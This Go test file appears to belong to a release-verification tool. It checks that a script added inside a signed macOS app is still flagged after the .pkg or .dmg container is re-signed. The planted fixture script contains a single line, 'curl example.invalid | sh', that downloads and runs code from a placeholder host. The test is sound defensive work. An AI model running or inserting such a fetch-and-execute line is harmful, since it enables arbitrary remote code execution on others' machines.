package verify

import (
	"strings"
	"testing"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/internal/pkgfile"
)

// TestMacFileAddedInsideSignedContainer: issue #15's "adding a file" for
// both installers. A plain file is added inside the app after the app
// was signed, and the .pkg or .dmg is then signed again by the same team,
// so the container's own signature is valid: the app's seal must still
// fail with codesign/resource-modified naming the file, for a package's
// payload and for an HFS+ and an APFS disk image.
func TestMacFileAddedInsideSignedContainer(t *testing.T) {
	t.Parallel()
	const added = "Example.app/Contents/Resources/stage2.sh"
	bundle := func() map[string]machofile.BundleFile {
		b := exampleBundle(t)
		b[added] = machofile.BundleFile{Data: []byte("#!/bin/sh\ncurl example.invalid | sh\n"), Mode: 0o755}
		return b
	}
	wantAdded := func(t *testing.T, r *Report) {
		t.Helper()
		if r.Summary.Passed {
			t.Fatal("the release passed")
		}
		for _, f := range r.Findings {
			if f.Rule == "codesign/resource-modified" && strings.Contains(f.Message, "stage2.sh") && strings.Contains(f.Message, "added") {
				return
			}
		}
		t.Errorf("no codesign/resource-modified for the added file; errors %v", errorRules(r))
	}
	t.Run("pkg", func(t *testing.T) {
		s, _ := pkgSpec(t)
		for i := range s.Files {
			if s.Files[i].Path == "app.pkg/Payload" {
				s.Files[i].Data = pkgfile.Gzip(pkgfile.CPIO(pkgfile.BundleCPIO("Applications", bundle())))
			}
		}
		b, _ := pkgfile.Build(s)
		r := run(t, Options{}, writePkg(t, b))
		if st := fileByPath(r, "Example-1.4.0.pkg").Signatures[0].Status.String(); st != "valid" {
			t.Errorf("package signature %s, want valid (re-signed)", st)
		}
		wantAdded(t, r)
	})
	t.Run("dmg-hfs", func(t *testing.T) {
		r := runDMG(t, hfsDMG(t, bundle(), nil, false, nil))
		if st := fileByPath(r, "Example.dmg").Signatures[0].Status.String(); st != "valid" {
			t.Errorf("image signature %s, want valid (re-signed)", st)
		}
		wantAdded(t, r)
	})
	t.Run("dmg-apfs", func(t *testing.T) {
		wantAdded(t, runDMG(t, apfsDMG(t, bundle(), nil)))
	})
}
